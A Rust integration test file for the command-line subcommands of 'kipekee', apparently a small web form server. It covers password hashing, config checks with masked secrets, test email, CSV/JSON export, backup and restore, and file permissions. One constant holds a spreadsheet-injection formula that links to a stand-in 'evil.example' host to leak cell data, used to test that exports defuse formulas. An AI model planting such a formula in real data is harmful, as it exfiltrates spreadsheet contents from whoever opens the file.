mod common;

// The `kipekee` subcommands, run as the real binary with a cleared environment, each with its
// own temp data dir and a time limit. Data is made the way visitors make it: the server runs
// as a process, receives posts over loopback, and is stopped before a command opens its store.

use std::collections::BTreeMap;
use std::fs::File;
use std::io::Write;
use std::path::Path;
use std::process::{Command, ExitStatus, Stdio};
use std::time::{Duration, Instant};

use argon2::password_hash::{PasswordHash, PasswordVerifier};
use common::fake_mailtrap::TOKEN;
use common::multipart::Multipart;
use common::process::{self, Server};
use common::{FakeMailtrap, Fault, FROM, PDF};
use kipekee::model::{Delivery, Submission};
use kipekee::store::Store;

const LIMIT: Duration = Duration::from_secs(30);

/// What a finished command left behind.
struct Run {
    status: ExitStatus,
    stdout: String,
    stderr: String,
}

impl Run {
    fn all(&self) -> String {
        format!("stdout:\n{}\nstderr:\n{}", self.stdout, self.stderr)
    }

    fn assert_ok(&self) -> &Self {
        assert!(self.status.success(), "expected success:\n{}", self.all());
        self
    }

    /// Failed with `error:` lines only, and no panic.
    fn assert_failed(&self) -> &Self {
        assert!(!self.status.success(), "expected failure:\n{}", self.all());
        assert!(!self.stderr.contains("panicked"), "{}", self.all());
        assert!(
            self.stderr.lines().any(|l| l.starts_with("error: ")),
            "{}",
            self.all()
        );
        self
    }
}

/// `kipekee` with nothing inherited but PATH, no config file, and this data dir.
fn kipekee(data_dir: &Path, args: &[&str]) -> Command {
    let mut cmd = Command::new(process::binary());
    cmd.env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("ROCKET_CONFIG", "/nonexistent/Rocket.toml")
        .env("KIPEKEE_DATA_DIR", data_dir)
        .args(args)
        .current_dir(std::env::temp_dir());
    cmd
}

/// Runs `cmd` to its end with `stdin` piped in; panics if it outlives `LIMIT`.
fn run(mut cmd: Command, stdin: &[u8]) -> Run {
    let dir = tempfile::tempdir().expect("temp dir");
    let (out, err) = (dir.path().join("stdout"), dir.path().join("stderr"));
    let mut child = cmd
        .stdin(Stdio::piped())
        .stdout(File::create(&out).expect("stdout file"))
        .stderr(File::create(&err).expect("stderr file"))
        .spawn()
        .expect("kipekee starts");
    if let Some(mut pipe) = child.stdin.take() {
        let _ = pipe.write_all(stdin);
    }
    let deadline = Instant::now() + LIMIT;
    let status = loop {
        if let Some(status) = child.try_wait().expect("wait for kipekee") {
            break status;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!("{cmd:?} did not exit within {LIMIT:?}");
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let read = |p: &Path| std::fs::read_to_string(p).unwrap_or_default();
    Run {
        status,
        stdout: read(&out),
        stderr: read(&err),
    }
}

fn check_env(cmd: &mut Command, fake_url: &str) {
    cmd.env("MAILTRAP_API_URL", fake_url)
        .env("MAILTRAP_API_TOKEN", TOKEN)
        .env("DEFAULT_FROM_EMAIL", FROM)
        .env("ADMIN_EMAIL", common::OWNER);
}

// ---------------------------------------------------------------- hash-password

#[test]
fn hash_password_prints_an_argon2id_string_that_verifies_the_piped_password() {
    let dir = tempfile::tempdir().expect("temp dir");
    let password = "correct horse battery staple";
    let out = run(
        kipekee(dir.path(), &["hash-password"]),
        format!("{password}\n").as_bytes(),
    );
    out.assert_ok();
    let phc = out.stdout.trim();
    assert_eq!(out.stdout.lines().count(), 1, "{}", out.all());
    assert!(phc.starts_with("$argon2id$"), "{phc}");
    let parsed = PasswordHash::new(phc).expect("a PHC string");
    let argon = argon2::Argon2::default();
    assert!(argon.verify_password(password.as_bytes(), &parsed).is_ok());
    assert!(
        argon
            .verify_password(format!("{password}\n").as_bytes(), &parsed)
            .is_err(),
        "the line ending became part of the password"
    );
    assert!(argon.verify_password(b"wrong", &parsed).is_err());
}

#[test]
fn hash_password_refuses_an_empty_password() {
    let dir = tempfile::tempdir().expect("temp dir");
    for stdin in [&b""[..], b"\n"] {
        let out = run(kipekee(dir.path(), &["hash-password"]), stdin);
        out.assert_failed();
        assert!(out.stderr.contains("empty"), "{}", out.all());
        assert!(out.stdout.is_empty(), "{}", out.all());
    }
}

// ---------------------------------------------------------------- check

#[test]
fn check_prints_the_configuration_with_every_secret_masked() {
    let dir = tempfile::tempdir().expect("temp dir");
    let token = "mt-live-9f8e7d6c5b4a39281706";
    let hash = "$argon2id$v=19$m=19456,t=2,p=1$b9fGCklZXitzQpoVj0axDA$k7d83YXQ/9/EfS2HDpZ/5t8JDM6U9cgpv8gVcak10h4";
    let secret_key = "hPRYyVRiMyxpw5sBB1XeCMN1kFsDCqKvBi2QJxBVHQk=";
    let mut cmd = kipekee(dir.path(), &["check"]);
    cmd.env("MAILTRAP_API_TOKEN", token)
        .env("KIPEKEE_ADMIN_PASSWORD_HASH", hash)
        .env("ROCKET_SECRET_KEY", secret_key)
        .env("KIPEKEE_MAILTRAP_WEBHOOK_SECRET", common::webhooks::SECRET)
        .env("MAILTRAP_INBOX_ID", "4242")
        .env("ADMIN_EMAIL", "owner@shop.example");
    let out = run(cmd, b"");
    out.assert_ok();
    let all = out.all();
    let webhook = common::webhooks::SECRET;
    for secret in [token, "9f8e7d6c5b4a", hash, "k7d83YXQ", secret_key, webhook] {
        assert!(!all.contains(secret), "{secret:?} is printed:\n{all}");
    }
    assert!(
        out.stdout.contains("\"mailtrap_api_token\": \"***\""),
        "{all}"
    );
    assert!(
        out.stdout.contains("\"admin_password_hash\": \"***\""),
        "{all}"
    );
    assert!(
        out.stdout.contains("\"mailtrap_webhook_secret\": \"***\""),
        "{all}"
    );
    assert!(
        out.stdout
            .contains("https://sandbox.api.mailtrap.io/api/batch/4242")
            && out.stdout.contains("no real person receives anything"),
        "the sandbox is named: {all}"
    );
    assert!(out.stdout.contains("owner@shop.example"), "{all}");
    assert!(out.stdout.contains("configuration OK"), "{all}");
    // the placeholder sender is flagged, not fatal
    assert!(out.stdout.contains("warning: DEFAULT_FROM_EMAIL"), "{all}");
}

#[test]
fn check_fails_naming_each_bad_setting() {
    let dir = tempfile::tempdir().expect("temp dir");
    let token = "mt-live-0a1b2c3d4e5f60718293";
    let mut cmd = kipekee(dir.path(), &["check"]);
    cmd.env("MAILTRAP_API_TOKEN", token)
        .env("ADMIN_EMAIL", "owner-at-shop")
        .env("JOBS_EMAIL", "jobs at shop")
        .env("KIPEKEE_ADMIN_PASSWORD_HASH", "plaintext-password")
        .env("ROCKET_PORT", "eighty");
    let out = run(cmd, b"");
    out.assert_failed();
    let all = out.all();
    assert!(
        !all.contains(token) && !all.contains("plaintext-password"),
        "{all}"
    );
    let errors: Vec<&str> = out
        .stderr
        .lines()
        .filter(|l| l.starts_with("error:"))
        .collect();
    for (name, value) in [
        ("ADMIN_EMAIL", "owner-at-shop"),
        ("JOBS_EMAIL", "jobs at shop"),
        ("KIPEKEE_ADMIN_PASSWORD_HASH", "argon2"),
        ("PORT", "eighty"),
    ] {
        assert!(
            errors.iter().any(|e| e.contains(name) && e.contains(value)),
            "no error names {name}:\n{all}"
        );
    }
    assert!(out.stderr.contains("4 problem(s)"), "{all}");
    assert!(!out.stdout.contains("configuration OK"), "{all}");
}

// ---------------------------------------------------------------- send-test

#[test]
fn send_test_delivers_one_email_and_prints_its_message_id() {
    let dir = tempfile::tempdir().expect("temp dir");
    let fake = FakeMailtrap::start();
    let mut cmd = kipekee(dir.path(), &["send-test", "--to", "me@owner.example"]);
    check_env(&mut cmd, &fake.url());
    let out = run(cmd, b"");
    out.assert_ok();
    let delivered = fake.delivered();
    assert_eq!(delivered.len(), 1, "{delivered:#?}");
    let message = &delivered[0];
    assert_eq!(message["to"][0]["email"], "me@owner.example", "{message}");
    assert_eq!(message["from"]["email"], "hello@example.com", "{message}");
    assert_eq!(message["category"], "test", "{message}");
    assert!(out.stdout.contains("status = sent"), "{}", out.all());
    assert!(out.stdout.contains("http_status = 200"), "{}", out.all());
    assert!(
        out.stdout.contains("message_ids = fa4e0000-"),
        "no message id:\n{}",
        out.all()
    );
    assert!(
        !dir.path().join("db").exists(),
        "send-test must not need the store"
    );
}

#[test]
fn send_test_with_a_rejected_token_prints_the_error_and_fails() {
    let dir = tempfile::tempdir().expect("temp dir");
    let fake = FakeMailtrap::start();
    fake.set_fault(Fault::Status {
        code: 401,
        body: r#"{"errors":["Unauthorized"]}"#.into(),
        retry_after: None,
    });
    let mut cmd = kipekee(dir.path(), &["send-test", "--to", "me@owner.example"]);
    check_env(&mut cmd, &fake.url());
    let out = run(cmd, b"");
    out.assert_failed();
    assert_eq!(fake.requests().len(), 1, "one attempt");
    assert!(fake.delivered().is_empty());
    assert!(out.stdout.contains("status = failed"), "{}", out.all());
    assert!(out.stdout.contains("http_status = 401"), "{}", out.all());
    assert!(
        out.stderr.contains("HTTP 401: Unauthorized"),
        "the error is not printed:\n{}",
        out.all()
    );
}

#[test]
fn send_test_without_a_token_says_it_was_skipped_and_fails() {
    let dir = tempfile::tempdir().expect("temp dir");
    let out = run(
        kipekee(dir.path(), &["send-test", "--to", "me@owner.example"]),
        b"",
    );
    out.assert_failed();
    assert!(out.stdout.contains("status = skipped"), "{}", out.all());
    assert!(out.stderr.contains("MAILTRAP_API_TOKEN"), "{}", out.all());
}

// ---------------------------------------------------------------- data made by the server

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")";

/// Starts the server on `data_dir`, posts a quote (whose message is a spreadsheet formula)
/// and a job application with a PDF CV, and stops it. Returns the two references.
fn submissions_made_by_visitors(data_dir: &Path) -> (String, String) {
    let fake = FakeMailtrap::start();
    let server = Server::start_command(data_dir, |port| {
        let mut cmd = process::command(data_dir, port, &fake.url());
        cmd.env("KIPEKEE_SPAM_MIN_SECONDS", "0");
        cmd
    });
    let quote = common::form_body(&[
        ("full_name", "Amani Mushi"),
        ("email", "amani@visitor.example"),
        ("phone", "+255 700 000 001"),
        ("message", FORMULA),
        ("website", ""),
    ]);
    let quote = post(
        &server,
        "quote",
        "application/x-www-form-urlencoded",
        quote.as_bytes(),
    );
    let (content_type, job) = Multipart::default()
        .text("full_name", "Baraka Odhiambo")
        .text("email", "baraka@visitor.example")
        .text("position", "Driver")
        .file("cv", "cv.pdf", "application/pdf", PDF)
        .text("website", "")
        .finish();
    let job = post(&server, "job", &content_type, &job);
    assert_eq!(fake.delivered().len(), 4, "two emails per submission");
    server.kill_9();
    (quote, job)
}

/// Posts as the form page would and returns the reference of the 303.
fn post(server: &Server, slug: &str, content_type: &str, body: &[u8]) -> String {
    let resp = match process::http()
        .post(&server.url(&format!("/f/{slug}")))
        .set("Origin", &server.url(""))
        .set("Content-Type", content_type)
        .send_bytes(body)
    {
        Ok(resp) | Err(ureq::Error::Status(_, resp)) => resp,
        Err(e) => panic!("POST /f/{slug}: {e}"),
    };
    let location = resp.header("Location").unwrap_or_default().to_string();
    assert_eq!(
        resp.status(),
        303,
        "POST /f/{slug}: {}",
        resp.into_string().unwrap_or_default()
    );
    common::query_param(&location, "reference").expect("a reference in the redirect")
}

// ---------------------------------------------------------------- export

#[test]
fn export_csv_of_a_form_has_its_columns_and_defuses_formulas() {
    let dir = tempfile::tempdir().expect("temp dir");
    let data = dir.path().join("data");
    let (quote, _) = submissions_made_by_visitors(&data);
    let out = run(kipekee(&data, &["export", "--form", "quote"]), b"");
    out.assert_ok();
    let mut reader = csv::Reader::from_reader(out.stdout.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .expect("a header")
        .iter()
        .map(String::from)
        .collect();
    assert_eq!(
        header,
        [
            "id",
            "reference",
            "created_at",
            "full_name",
            "email",
            "phone",
            "company",
            "message",
            "email_status",
            "status"
        ]
    );
    let rows: Vec<BTreeMap<String, String>> = reader
        .records()
        .map(|r| {
            header
                .iter()
                .cloned()
                .zip(r.expect("a row").iter().map(String::from))
                .collect()
        })
        .collect();
    assert_eq!(rows.len(), 1, "only the quote:\n{}", out.stdout);
    let row = &rows[0];
    assert_eq!(row["reference"], quote);
    assert_eq!(row["full_name"], "Amani Mushi");
    assert_eq!(
        row["message"],
        format!("'{FORMULA}"),
        "the formula is not defused"
    );
    assert_eq!(row["phone"], "'+255 700 000 001");
    assert_eq!(row["email_status"], "sent");
    assert!(
        !out.stdout.contains(&format!(",{FORMULA}")),
        "{}",
        out.stdout
    );
}

#[test]
fn export_of_every_form_as_json_holds_full_records_oldest_first() {
    let dir = tempfile::tempdir().expect("temp dir");
    let data = dir.path().join("data");
    let (quote, job) = submissions_made_by_visitors(&data);
    let out = run(kipekee(&data, &["export", "--format", "json"]), b"");
    out.assert_ok();
    let records: Vec<Submission> = serde_json::from_str(&out.stdout).expect("a JSON array");
    let references: Vec<&str> = records.iter().map(|s| s.reference.as_str()).collect();
    assert_eq!(references, [quote.as_str(), job.as_str()]);
    assert_eq!(
        records[0].fields["message"], FORMULA,
        "JSON keeps values as they are"
    );
    assert_eq!(records[1].files[0].filename, "cv.pdf");

    let out = run(kipekee(&data, &["export"]), b"");
    out.assert_ok();
    let header = out.stdout.lines().next().unwrap_or_default();
    let header = header
        .strip_prefix('\u{feff}')
        .expect("CSV starts with a byte order mark");
    assert!(
        header.starts_with("id,reference,created_at,form,"),
        "{header}"
    );
    assert!(
        header.contains(",position,") && header.contains(",cv,"),
        "{header}"
    );

    let out = run(kipekee(&data, &["export", "--form", "nope"]), b"");
    out.assert_failed();
    assert!(out.stderr.contains("\"nope\""), "{}", out.all());
}

#[test]
fn export_and_backup_of_a_directory_without_a_store_say_so_and_create_nothing() {
    let dir = tempfile::tempdir().expect("temp dir");
    let missing = dir.path().join("nothing-here");
    for args in [&["export"][..], &["backup", "-"]] {
        let out = run(kipekee(&missing, args), b"");
        out.assert_failed();
        assert!(out.stderr.contains("there is no store at"), "{}", out.all());
        assert!(!missing.exists(), "{args:?} created {}", missing.display());
    }
}

// ---------------------------------------------------------------- backup and restore

/// A submission with the bytes of each of its files and its delivery attempts.
type Kept = (Submission, Vec<Option<Vec<u8>>>, Vec<Delivery>);

/// Everything the public API shows of a store: submissions with their files and deliveries.
fn contents(data_dir: &Path) -> Vec<Kept> {
    let store = Store::open(data_dir).expect("the store opens");
    store
        .submissions_oldest_first(None)
        .map(|s| {
            let s = s.expect("a readable submission");
            let files = s
                .files
                .iter()
                .map(|f| store.file(s.id, &f.field).expect("file readable"))
                .collect();
            let deliveries = store.deliveries_of(s.id).expect("deliveries readable");
            (s, files, deliveries)
        })
        .collect()
}

/// The entry lines of a backup file (its header carries the time it was taken).
fn entries(backup: &Path) -> Vec<String> {
    let text = std::fs::read_to_string(backup).expect("backup readable");
    text.lines().skip(1).map(String::from).collect()
}

#[test]
fn backup_then_restore_into_a_fresh_directory_keeps_every_submission_file_and_delivery() {
    let dir = tempfile::tempdir().expect("temp dir");
    let data = dir.path().join("data");
    let (quote, job) = submissions_made_by_visitors(&data);
    let file = dir.path().join("kipekee.backup");
    let out = run(
        kipekee(&data, &["backup", file.to_str().expect("utf-8 path")]),
        b"",
    );
    out.assert_ok();
    assert!(
        out.stdout
            .contains("2 submission(s), 1 file(s), 4 delivery attempt(s)"),
        "{}",
        out.all()
    );
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&file)
            .expect("backup file")
            .permissions()
            .mode();
        assert_eq!(
            mode & 0o077,
            0,
            "the backup is readable by others: {mode:o}"
        );
    }

    let fresh = dir.path().join("restored");
    let out = run(
        kipekee(&fresh, &["restore", file.to_str().expect("utf-8 path")]),
        b"",
    );
    out.assert_ok();
    let original = contents(&data);
    let restored = contents(&fresh);
    assert_eq!(restored.len(), 2);
    assert_eq!(restored, original);
    let refs: Vec<&str> = restored
        .iter()
        .map(|(s, _, _)| s.reference.as_str())
        .collect();
    assert_eq!(refs, [quote.as_str(), job.as_str()]);
    let (_, files, deliveries) = &restored[1];
    assert_eq!(files, &[Some(PDF.to_vec())], "the CV bytes");
    assert_eq!(deliveries.len(), 2);
    assert!(deliveries.iter().all(|d| !d.outcome.message_ids.is_empty()));

    // every tree, not only what the public API shows: a backup of the copy is the same
    let again = dir.path().join("again.backup");
    run(
        kipekee(&fresh, &["backup", again.to_str().expect("utf-8 path")]),
        b"",
    )
    .assert_ok();
    assert_eq!(entries(&again), entries(&file));
}

#[test]
fn restore_refuses_a_store_with_data_unless_forced() {
    let dir = tempfile::tempdir().expect("temp dir");
    let source = dir.path().join("source");
    let (quote, _) = submissions_made_by_visitors(&source);
    let file = dir.path().join("source.backup");
    let file_arg = file.to_str().expect("utf-8 path");
    run(kipekee(&source, &["backup", file_arg]), b"").assert_ok();

    let target = dir.path().join("target");
    submissions_made_by_visitors(&target);
    let before = contents(&target);
    let out = run(kipekee(&target, &["restore", file_arg]), b"");
    out.assert_failed();
    assert!(out.stderr.contains("--force"), "{}", out.all());
    assert_eq!(
        contents(&target),
        before,
        "a refused restore changed the store"
    );

    run(kipekee(&target, &["restore", "--force", file_arg]), b"").assert_ok();
    let after = contents(&target);
    assert_eq!(after, contents(&source));
    assert_eq!(after[0].0.reference, quote);
}

#[test]
fn restore_refuses_a_cut_off_backup_and_leaves_the_store_alone() {
    let dir = tempfile::tempdir().expect("temp dir");
    let data = dir.path().join("data");
    submissions_made_by_visitors(&data);
    let file = dir.path().join("full.backup");
    run(
        kipekee(&data, &["backup", file.to_str().expect("utf-8 path")]),
        b"",
    )
    .assert_ok();
    let text = std::fs::read_to_string(&file).expect("backup readable");
    let cut = dir.path().join("cut.backup");
    std::fs::write(&cut, &text[..text.len() / 2]).expect("write cut backup");
    let before = contents(&data);
    let out = run(
        kipekee(
            &data,
            &["restore", "--force", cut.to_str().expect("utf-8 path")],
        ),
        b"",
    );
    out.assert_failed();
    assert_eq!(contents(&data), before);
}

/// A store with one submission and a logged-in admin session, made by the server.
fn store_with_an_admin_session(data_dir: &Path) {
    const PASSWORD: &str = "owner-password-4417";
    let fake = FakeMailtrap::start();
    let phc = kipekee::web::admin::hash_password(PASSWORD);
    let server = Server::start_command(data_dir, |port| {
        let mut cmd = process::command(data_dir, port, &fake.url());
        cmd.env("KIPEKEE_ADMIN_PASSWORD_HASH", &phc);
        cmd
    });
    let quote = common::form_body(&[
        ("full_name", "Amani Mushi"),
        ("email", "amani@visitor.example"),
        ("message", "A quote"),
    ]);
    post(
        &server,
        "quote",
        "application/x-www-form-urlencoded",
        quote.as_bytes(),
    );
    let mut admin = common::admin_http::Browser::default();
    let done = common::admin_http::login(&server, &mut admin, PASSWORD);
    assert_eq!(done.status, 303, "{}", done.body);
    server.kill_9();
}

/// The id and CSRF token of the one admin session in a store.
fn session_secrets(data_dir: &Path) -> Vec<String> {
    let db = sled::open(data_dir).expect("store");
    let sessions = db.open_tree("sessions").expect("sessions");
    let mut secrets = Vec::new();
    for entry in sessions.iter() {
        let (id, value) = entry.expect("session");
        let record: serde_json::Value = serde_json::from_slice(&value).expect("session JSON");
        secrets.push(String::from_utf8_lossy(&id).into_owned());
        secrets.push(record["csrf"].as_str().expect("csrf").to_string());
    }
    assert_eq!(secrets.len(), 2, "one session");
    secrets
}

/// A backup line `{"tree":…,"key":…,"value":…}` with `value` replaced.
fn with_value(line: &str, value: &[u8]) -> String {
    use base64::Engine;
    let mut entry: serde_json::Value = serde_json::from_str(line).expect("entry JSON");
    entry["value"] = base64::engine::general_purpose::STANDARD
        .encode(value)
        .into();
    entry.to_string()
}

#[test]
fn a_backup_holds_no_admin_session_and_restore_refuses_an_unreadable_record_by_line() {
    let dir = tempfile::tempdir().expect("temp dir");
    let data = dir.path().join("data");
    store_with_an_admin_session(&data);
    let session = session_secrets(&data);
    let file = dir.path().join("kipekee.backup");
    let file_arg = file.to_str().expect("utf-8 path");
    run(kipekee(&data, &["backup", file_arg]), b"").assert_ok();
    let text = std::fs::read_to_string(&file).expect("backup readable");
    assert!(
        !text.contains(r#""tree":"sessions""#),
        "sessions are backed up"
    );
    common::secrets::assert_no_secrets(&text, &[&session[0], &session[1]]);

    let mut lines: Vec<String> = text.lines().map(String::from).collect();
    let at = lines
        .iter()
        .position(|l| l.contains(r#""tree":"submissions""#))
        .expect("a submission line");
    lines[at] = with_value(&lines[at], br#"{"not":"a submission"}"#);
    let bad = dir.path().join("bad.backup");
    std::fs::write(&bad, lines.join("\n") + "\n").expect("write");
    let target = dir.path().join("target");
    store_with_an_admin_session(&target);
    let before = contents(&target);
    let bad_arg = bad.to_str().expect("utf-8 path");
    let out = run(kipekee(&target, &["restore", "--force", bad_arg]), b"");
    out.assert_failed();
    let line = format!("line {}", at + 1);
    assert!(
        out.stderr.contains(&line),
        "{line} not named:\n{}",
        out.all()
    );
    let piped = run(
        kipekee(&target, &["restore", "--force", "-"]),
        (lines.join("\n") + "\n").as_bytes(),
    );
    piped.assert_failed();
    assert!(piped.stderr.contains(&line), "{}", piped.all());
    assert_eq!(contents(&target), before, "the store was touched");

    let restored = dir.path().join("restored");
    run(kipekee(&restored, &["restore", file_arg]), b"").assert_ok();
    let db = sled::open(&restored).expect("restored store");
    assert!(db.open_tree("sessions").expect("sessions").is_empty());
}

#[cfg(unix)]
fn mode_of(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(path)
        .expect("metadata")
        .permissions()
        .mode()
        & 0o777
}

#[cfg(unix)]
#[test]
fn backups_and_data_dirs_are_the_owners_alone_and_check_warns_about_wider_modes() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().expect("temp dir");
    let data = dir.path().join("data");
    store_with_an_admin_session(&data);
    assert_eq!(mode_of(&data), 0o700);
    for entry in std::fs::read_dir(&data).expect("data dir").flatten() {
        let want = if entry.path().is_dir() { 0o700 } else { 0o600 };
        assert_eq!(mode_of(&entry.path()), want, "{}", entry.path().display());
    }
    let stale = dir.path().join(".out.backup.partial");
    std::fs::write(&stale, b"stale").expect("stale partial");
    std::fs::set_permissions(&stale, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    let out = dir.path().join("out.backup");
    run(
        kipekee(&data, &["backup", out.to_str().expect("utf-8 path")]),
        b"",
    )
    .assert_ok();
    assert_eq!(mode_of(&out), 0o600, "a stale partial's mode was kept");

    let quiet = run(kipekee(&data, &["check"]), b"");
    quiet.assert_ok();
    assert!(!quiet.stdout.contains("owner's alone"), "{}", quiet.all());
    std::fs::set_permissions(&data, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let warned = run(kipekee(&data, &["check"]), b"");
    warned.assert_ok();
    let expected = format!("{} is mode 755", data.display());
    assert!(
        warned
            .stdout
            .lines()
            .any(|l| l.starts_with("warning: ") && l.contains(&expected)),
        "{}",
        warned.all()
    );
}

// ---------------------------------------------------------------- the store in use

#[test]
fn commands_that_need_the_store_say_in_one_line_that_the_server_holds_it() {
    let dir = tempfile::tempdir().expect("temp dir");
    let data = dir.path().join("data");
    let fake = FakeMailtrap::start();
    let server = Server::start(&data, &fake.url());
    let backup = dir.path().join("b.backup");
    std::fs::write(&backup, "").expect("placeholder");
    let backup = backup.to_str().expect("utf-8 path");
    for args in [
        &["export"][..],
        &["export", "--format", "json"],
        &["backup", backup],
        &["restore", "--force", "-"],
    ] {
        let out = run(kipekee(&data, args), b"");
        out.assert_failed();
        assert_eq!(
            out.stderr.lines().count(),
            1,
            "{args:?}: one line:\n{}",
            out.all()
        );
        assert!(
            out.stderr.starts_with("error: the store at ")
                && out.stderr.contains("in use by another kipekee process"),
            "{args:?}:\n{}",
            out.all()
        );
        assert!(out.stdout.is_empty(), "{args:?}:\n{}", out.all());
    }
    assert_eq!(
        std::fs::read_to_string(backup).unwrap_or_default(),
        "",
        "backup file clobbered"
    );
    let health = process::http().get(&server.url("/healthz")).call();
    assert!(health.is_ok(), "the server suffered: {}", server.log_text());
}

/// Every entry under `dir` that is not owned by `uid`.
#[cfg(unix)]
fn not_owned_by(dir: &Path, uid: u32) -> Vec<String> {
    use std::os::unix::fs::MetadataExt;
    let mut found = Vec::new();
    for entry in std::fs::read_dir(dir).expect("data dir readable").flatten() {
        let meta = entry.metadata().expect("metadata");
        if meta.uid() != uid {
            found.push(format!("{} (uid {})", entry.path().display(), meta.uid()));
        }
        if meta.is_dir() {
            found.extend(not_owned_by(&entry.path(), uid));
        }
    }
    found
}

/// Root running a command against a service's data directory must not leave files there
/// that the service's own user cannot replace.
#[cfg(unix)]
#[test]
fn commands_run_by_root_leave_the_data_directory_to_its_owner() {
    const NOBODY: u32 = 65534;
    let dir = tempfile::tempdir().expect("temp dir");
    let data = dir.path().join("data");
    submissions_made_by_visitors(&data);
    let chown = Command::new("chown")
        .args(["-R", &format!("{NOBODY}:{NOBODY}")])
        .arg(&data)
        .status();
    if !chown.is_ok_and(|s| s.success()) {
        eprintln!("skipped: changing owners needs root");
        return;
    }
    let file = dir.path().join("b.backup");
    let file = file.to_str().expect("utf-8 path");
    for args in [
        &["export"][..],
        &["backup", file],
        &["restore", "--force", file],
    ] {
        run(kipekee(&data, args), b"").assert_ok();
        let strays = not_owned_by(&data, NOBODY);
        assert!(strays.is_empty(), "after {args:?}: {strays:#?}");
    }
}

// ---------------------------------------------------------------- version

#[test]
fn version_shows_the_package_version_and_the_git_commit() {
    let dir = tempfile::tempdir().expect("temp dir");
    let out = run(kipekee(dir.path(), &["--version"]), b"");
    out.assert_ok();
    let line = out.stdout.trim();
    let prefix = format!("kipekee {} (commit ", env!("CARGO_PKG_VERSION"));
    let commit = line
        .strip_prefix(&prefix)
        .and_then(|rest| rest.strip_suffix(')'))
        .unwrap_or_else(|| panic!("unexpected --version: {line:?}"));
    let in_git = git(&["rev-parse", "HEAD"]).is_some();
    if in_git {
        assert!(
            commit.len() >= 7 && commit.chars().all(|c| c.is_ascii_hexdigit()),
            "{line}"
        );
        let full = git(&["rev-parse", "--verify", &format!("{commit}^{{commit}}")]);
        assert!(
            full.is_some(),
            "{commit} is not a commit of this repository"
        );
    } else {
        assert_eq!(commit, "unknown");
    }
}

fn git(args: &[&str]) -> Option<String> {
    let out = Command::new("git")
        .args(args)
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .output()
        .ok()?;
    out.status
        .success()
        .then(|| String::from_utf8_lossy(&out.stdout).trim().to_string())
}
